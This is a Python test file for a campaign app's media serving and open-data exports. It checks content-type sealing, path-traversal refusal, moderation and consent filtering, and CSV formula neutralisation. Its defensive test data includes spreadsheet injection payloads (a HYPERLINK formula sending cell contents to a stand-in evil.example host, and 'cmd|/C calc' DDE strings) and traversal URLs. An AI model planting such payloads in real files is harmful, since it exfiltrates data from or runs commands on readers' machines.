"""Media and open data that cannot be turned against staff or journalists (issue 15, section 2).

/media/ serves only images and PDFs, by their content, with nosniff and a sandbox CSP, whatever a file is
named or holds; CSV cells never become spreadsheet formulas; the public files, API results, campaign page and
media respect moderation (a hidden task is gone) and consent (a sensitive original is not public)."""
import csv
import io
import json
import os
import uuid
import zipfile

import pytest
from PIL import Image
from sqlalchemy import select

from citizen.accounts import services as accounts
from citizen.campaigns import services as campaigns
from citizen.campaigns.models import Task
from citizen.demo.imagery import drone_photo
from citizen.extensions import db
from citizen.moderation import services as moderation
from citizen.spreadsheet import safe_cell
from tests.helpers import new_guest, signed_in
from tests.pdf_samples import make_pdf
from tests.test_upload_bombs import SCRIPT, SVG, gif_js, pdf_html_after_eof

API = "/api/v1"
FILES = ("results.csv", "results.geojson", "results.gpkg", "answers.csv", "datapackage.json", "README.md")
PLAIN_FILES = tuple(n for n in FILES if n not in ("results.geojson", "results.gpkg"))  # campaigns without places
GRAPHIC_INJURY = {"level": "graphic", "categories": ["injury"]}
NEVER = ("text/html", "text/javascript", "application/javascript", "image/svg+xml", "text/xml", "application/xml",
         "text/plain", "application/xhtml+xml")


@pytest.fixture
def app(make_app, tmp_path):
    app = make_app(EXPORTS_FOLDER=str(tmp_path / "exports"))
    with app.app_context():
        yield app
        db.session.remove()


def png():
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(buf, "PNG")
    return buf.getvalue()


def put(app, name, data):
    path = os.path.join(app.config["MEDIA_FOLDER"], name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as fh:
        fh.write(data)
    return "/media/" + name


def sealed(r):
    """The headers every served media file carries."""
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    policy = r.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "sandbox" in policy and "script-src" not in policy
    assert r.mimetype not in NEVER


# --- /media/ ------------------------------------------------------------------------------------

@pytest.mark.parametrize("csp", [True, False])
def test_media_serves_images_and_pdfs_only_and_by_their_content(make_app, tmp_path, csp):
    app = make_app(CSP_ENABLED=csp)
    client = app.test_client()
    # Files an older version stored under the uploader's name, or an operator left there.
    refused = {"campaigns/7/1a2b-invoice.html": pdf_html_after_eof(), "old/run.js": b"alert(1)",
               "old/pdf.js": make_pdf(1), "old/vector.svg": SVG, "old/page.htm": SCRIPT, "old/notes.txt": b"hello",
               "old/fake.jpg": SCRIPT, "old/svg.png": SVG, "old/.htaccess": b"x", "old/noext": png(),
               "old/page.xhtml": SCRIPT, "old/x.PDF.html": make_pdf(1)}
    for name, data in refused.items():
        url = put(app, name, data)
        r = client.get(url)
        assert r.status_code == 404, (name, r.status_code, r.mimetype)
        assert r.mimetype not in NEVER[1:]  # the 404 page is the app's own
    served = {"old/real.png": ("image/png", "inline"), "old/real.PNG": ("image/png", "inline"),
              "old/doc.pdf": ("application/pdf", "attachment"),
              "old/pdf-named.jpg": ("application/pdf", "attachment"),  # its content decides
              "old/anim.gif": ("image/gif", "inline")}
    data = {"old/real.png": png(), "old/real.PNG": png(), "old/doc.pdf": pdf_html_after_eof(),
            "old/pdf-named.jpg": make_pdf(1), "old/anim.gif": gif_js()}
    for name, (mimetype, disposition) in served.items():
        r = client.get(put(app, name, data[name]))
        assert r.status_code == 200 and r.mimetype == mimetype, (name, r.mimetype)
        assert r.headers["Content-Disposition"].startswith(disposition + ";"), name
        assert "filename=" in r.headers["Content-Disposition"]
        sealed(r)
        assert r.get_data() == data[name]
    for url in ("/media/../instance/secret", "/media/%2e%2e/secret.png", "/media/old/../../x.png", "/media/nothing.png",
                "/media/" + "a/" * 300 + "x.png"):
        assert client.get(url).status_code == 404, url


# --- a campaign of photos, one of them hidden by a moderator ---------------------------------------

def photos_zip(n, **kw):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(n):
            zf.writestr(f"roof-{i}.jpg", drone_photo(i, "destroyed", size=(160, 120))[0])
    return buf.getvalue()


def download(client, slug, name, status=200):
    r = client.get(f"/data/{slug}/{name}")
    r.get_data()
    assert r.status_code == status, (name, r.status_code)
    return r


def every_file(client, slug):
    return {name: download(client, slug, name).get_data() for name in FILES}


@pytest.fixture
def hidden_setup(app, org, organiser, make_user):
    c = campaigns.create_campaign(org.id, organiser, {"title": "Roofs", "kind": "damage", "settings": {},
                                                      "redundancy": 1})
    campaigns.import_tasks(c, "photos.zip", photos_zip(3))
    campaigns.publish(c)
    db.session.commit()
    tasks = db.session.execute(select(Task).where(Task.campaign_id == c.id).order_by(Task.id)).scalars().all()
    return c, tasks


def test_hidden_task_is_gone_from_every_public_place_and_its_photo_from_the_public(app, client, hidden_setup,
                                                                                   organiser, make_user):
    c, tasks = hidden_setup
    hidden, kept = tasks[1], tasks[0]
    url, name = hidden.payload["image_url"], hidden.payload["name"]
    assert client.get(url).status_code == 200  # public before
    moderation.hide_task(organiser, hidden.id, "Personal data: a face and a car plate")
    db.session.commit()

    files = every_file(client, c.slug)
    for file, body in files.items():
        assert url.encode() not in body and name.encode() not in body, file
    assert kept.payload["image_url"].encode() in files["results.csv"]
    table = list(csv.DictReader(io.StringIO(files["results.csv"].decode())))
    assert {int(r["task_id"]) for r in table} == {t.id for t in tasks} - {hidden.id}
    assert hidden.external_id.encode() not in files["results.geojson"]

    results = client.get(f"{API}/campaigns/{c.slug}/results").get_json()["results"]
    assert {r["task_id"] for r in results} == {t.id for t in tasks} - {hidden.id}
    page = client.get(f"/campaigns/{c.slug}").get_data(as_text=True)
    assert url not in page and name not in page

    # The photo: gone for anyone, still there for the campaign's staff (they decided, they may look again).
    assert client.get(url).status_code == 404
    assert client.get(url, headers=new_guest(client)).status_code == 404
    outsider = make_user("other@example.org")
    assert signed_in(app, outsider.email).get(url).status_code == 404
    staff = signed_in(app, organiser.email)
    r = staff.get(url)
    assert r.status_code == 200 and r.mimetype == "image/jpeg" and "private" in r.headers["Cache-Control"]
    moderator = make_user("mod@example.org", "moderator")
    assert signed_in(app, moderator.email).get(url).status_code == 200
    token = accounts.create_api_token(organiser)
    db.session.commit()
    own = client.get(f"{API}/campaigns/{c.slug}/results", headers={"Authorization": f"Bearer {token}"}).get_json()
    assert [r for r in own["results"] if r["task_id"] == hidden.id][0]["hidden"] is True
    assert client.get(kept.payload["image_url"]).status_code == 200


def test_answers_to_a_hidden_task_leave_answers_csv(app, client, make_campaign, organiser):
    c = make_campaign(tasks=3, redundancy=1)
    h = new_guest(client)
    answered = []
    for _ in range(3):
        task = client.get(f"{API}/campaigns/{c.slug}/tasks/next", headers=h).get_json()
        r = client.post(f"{API}/tasks/{task['id']}/answers", json={"value": "yes", "duration_ms": 4000},
                        headers={**h, "Idempotency-Key": str(uuid.uuid4())})
        assert r.status_code == 201
        answered.append(task["id"])
    before = list(csv.DictReader(io.StringIO(download(client, c.slug, "answers.csv").get_data(as_text=True))))
    assert len(before) == 3
    moderation.hide_task(organiser, answered[0], "Personal data")
    db.session.commit()
    after = list(csv.DictReader(io.StringIO(download(client, c.slug, "answers.csv").get_data(as_text=True))))
    assert sorted(int(a["task_id"]) for a in after) == sorted(answered[1:])
    results = list(csv.DictReader(io.StringIO(download(client, c.slug, "results.csv").get_data(as_text=True))))
    assert answered[0] not in {int(r["task_id"]) for r in results} and len(results) == 2


# --- a graphic campaign ---------------------------------------------------------------------------

@pytest.fixture
def graphic(app, org, organiser):
    c = campaigns.create_campaign(org.id, organiser, {"title": "Drone", "kind": "damage", "settings": {},
                                                      "wellbeing": GRAPHIC_INJURY})
    campaigns.import_tasks(c, "photos.zip", photos_zip(2))
    campaigns.publish(c)
    db.session.commit()
    return c


def test_exports_of_a_graphic_campaign_carry_no_original(app, client, graphic):
    originals = [p["image_url"] for p in db.session.execute(
        select(Task.payload).where(Task.campaign_id == graphic.id)).scalars()]
    files = every_file(client, graphic.slug)
    for file, body in files.items():
        for url in originals:
            assert url.encode() not in body, file
    table = list(csv.DictReader(io.StringIO(files["results.csv"].decode())))
    assert len(table) == 2
    for row in table:
        assert row["media_note"] == "blurred: graphic"
        assert row["image_url"].endswith("-blurred.jpg") and row["image_url"] not in originals
        assert client.get(row["image_url"]).status_code == 200  # the blurred copy is public
    features = json.loads(files["results.geojson"])["features"]
    assert {f["properties"]["media_note"] for f in features} == {"blurred: graphic"}
    dp = json.loads(files["datapackage.json"])
    assert "media_note" in [f["name"] for f in dp["resources"][0]["schema"]["fields"]]


def test_a_graphic_original_is_served_only_to_who_was_shown_it(app, client, graphic, organiser):
    originals = [p["image_url"] for p in db.session.execute(
        select(Task.payload).where(Task.campaign_id == graphic.id)).scalars()]
    for url in originals:
        assert client.get(url).status_code == 404
    h = new_guest(client)
    task = client.get(f"{API}/campaigns/{graphic.slug}/tasks/next", headers=h).get_json()
    assert task["blurred"] and client.get(task["image_url"], headers=h).status_code == 200
    db.session.expire_all()
    original = db.session.get(Task, task["id"]).payload["image_url"]
    assert client.get(original, headers=h).status_code == 404  # not revealed yet
    shown = client.post(task["reveal_url"], headers=h).get_json()["image_url"]
    assert shown == original
    r = client.get(original, headers=h)
    assert r.status_code == 200 and r.mimetype == "image/jpeg"
    sealed(r)
    assert client.get(original, headers=new_guest(client)).status_code == 404
    assert client.get(original).status_code == 404
    assert signed_in(app, organiser.email).get(original).status_code == 200


# --- CSV formula injection -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/c calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_text_formulas_and_keeps_numbers():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for number in (-12.5, 3, 0, -1, 1e-9):
        assert safe_cell(number) == number
    for text in ("-12.5", "+3", "1e-3", "-0", "hello", "", "'=already", "a=1", " =1"):
        assert safe_cell(text) == text
    for text in ("-1e5+1", "-nan", "-inf", "-1_000", "-" + "1" * 50, "-12.5 ", "=1", "-", "+"):
        assert safe_cell(text) == "'" + text


def test_every_csv_neutralises_formula_cells(app, client, org, organiser, tmp_path):
    from tests.test_transcription import FIELDS, answer as tx_answer
    c = campaigns.create_campaign(org.id, organiser, {"title": "Expenses", "kind": "transcription", "redundancy": 2,
                                                      "settings": {"fields": FIELDS, "agree": 2, "max_answers": 3}})
    campaigns.import_tasks(c, "tasks.json", json.dumps([
        {"external_id": text, "image_url": "/media/p.jpg", "width": 100, "height": 100} for text in FORMULAS[:4]]))
    campaigns.publish(c)
    db.session.commit()
    refs = dict(db.session.execute(select(Task.id, Task.external_id).where(Task.campaign_id == c.id)).all())
    guests = [new_guest(client), new_guest(client)]
    for h in guests:
        for _ in range(4):
            r = client.get(f"{API}/campaigns/{c.slug}/tasks/next", headers=h)
            assert r.status_code == 200, r.get_data(as_text=True)
            task = r.get_json()
            value = tx_answer(name=refs[task["id"]], when=None)  # each volunteer types the task's formula
            s = client.post(f"{API}/tasks/{task['id']}/answers", json={"value": value, "duration_ms": 5000},
                            headers={**h, "Idempotency-Key": str(uuid.uuid4())})
            assert s.status_code == 201, s.get_data(as_text=True)
    for file in ("results.csv", "answers.csv"):
        text = download(client, c.slug, file).get_data(as_text=True)
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (
                    cell[:1] == "-" and not safe_cell(cell) == cell), (file, cell)
    results = list(csv.DictReader(io.StringIO(download(client, c.slug, "results.csv").get_data(as_text=True))))
    assert {r["external_id"] for r in results} == {"'" + t for t in FORMULAS[:4]}
    assert {r["name"] for r in results} == {"'" + t for t in FORMULAS[:4]}
    assert all(r["amount"] == "1234.5" for r in results)  # a number column stays a number
    for name in PLAIN_FILES:  # transcription: no places, no map files; each saved as <slug>-<name>
        (tmp_path / f"{c.slug}-{name}").write_bytes(download(client, c.slug, name).get_data())
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(str(tmp_path / f"{c.slug}-datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    readme = (tmp_path / f"{c.slug}-README.md").read_text()
    assert "leading apostrophe" in readme


def test_a_hidden_tasks_photo_is_not_served_under_another_spelling_of_its_path(app, client, hidden_setup, organiser):
    """The campaign check reads the name: only the canonical one is served, or "campaigns//1/x.jpg" would skip it."""
    c, tasks = hidden_setup
    url = tasks[1].payload["image_url"]
    moderation.hide_task(organiser, tasks[1].id, "Personal data")
    db.session.commit()
    assert client.get(url).status_code == 404
    folder, file = url.rsplit("/", 1)
    _media, _campaigns, cid = folder.strip("/").split("/")
    for odd in (f"/media/campaigns//{cid}/{file}", f"/media/./campaigns/{cid}/{file}",
                f"/media/campaigns/{cid}/./{file}", f"/media/campaigns/{cid}//{file}",
                f"/media/campaigns/x/../{cid}/{file}"):
        assert client.get(odd).status_code in (308, 404), odd
    kept = tasks[0].payload["image_url"]
    assert client.get(kept).status_code == 200
    assert client.get(kept.replace("/campaigns/", "/campaigns/./")).status_code == 404
